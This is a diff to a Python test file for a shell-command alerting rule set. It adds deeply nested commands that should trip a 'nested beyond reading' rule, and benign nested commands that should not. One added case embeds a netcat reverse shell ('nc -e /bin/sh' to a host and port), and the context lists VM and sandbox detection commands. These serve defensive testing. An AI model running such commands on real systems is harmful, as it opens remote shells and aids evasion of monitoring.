@@ -77,6 +77,8 @@ def test_rules_load_cleanly():
     ("cat /sys/class/dmi/id/product_name", "vm_or_sandbox_detection"),
     ("grep -q hypervisor /proc/cpuinfo && echo vm", "vm_or_sandbox_detection"),
     ("sudo dmidecode -s system-product-name | grep -i virtualbox", "vm_or_sandbox_detection"),
+    ("( " * 700 + "nc -e /bin/sh 10.0.0.1 4444" + " )" * 700, "command_nested_beyond_reading"),
+    ("bash -c \"" + "$(echo " * 400 + "id" + ")" * 400 + "\"", "command_nested_beyond_reading"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -120,6 +122,8 @@ def test_detected(command, rule):
     "singularity exec image.sif python run.py",
     "sync; echo 3 | sudo tee /proc/sys/vm/drop_caches",
     "sudo swapoff -a",
+    "( cd /tmp && ( ls -la; ( pwd ) ) )",
+    "echo \"$(date +%s) $(basename \"$(pwd)\")\"",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
